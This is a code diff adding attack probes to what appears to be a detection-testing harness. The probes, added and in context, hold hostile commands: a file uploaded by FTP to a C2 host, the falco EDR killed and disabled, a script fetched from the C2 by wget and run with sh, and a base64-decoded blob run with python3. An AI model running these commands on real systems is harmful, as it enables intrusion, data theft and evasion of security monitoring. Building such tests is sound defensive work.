@@ -230,6 +230,11 @@ ATTACKS = [
         lambda s: s.run(f"curl -T /tmp/.h.gpg ftp://{C2}/"))),
     Probe("EDR killed", "admin", True, _steps(
         lambda s: s.run("pkill -9 falco"), lambda s: s.run("systemctl disable --now falco"))),
+    Probe("script fetched by a CGI, run by sh", "web", True, _steps(_web("fcgiwrap", "/usr/sbin/fcgiwrap"),
+        lambda s: s.script(f"wget -q -O /tmp/.s http://{C2}/s; sh /tmp/.s", f"wget -q -O /tmp/.s http://{C2}/s",
+                           "sh /tmp/.s"))),
+    Probe("decoded script run by python", "admin", True, _steps(
+        lambda s: s.run("base64 -d blob.txt", "tee /dev/shm/a.py"), lambda s: s.run("python3 /dev/shm/a.py"))),
 ]
 
 ROUTINES = [
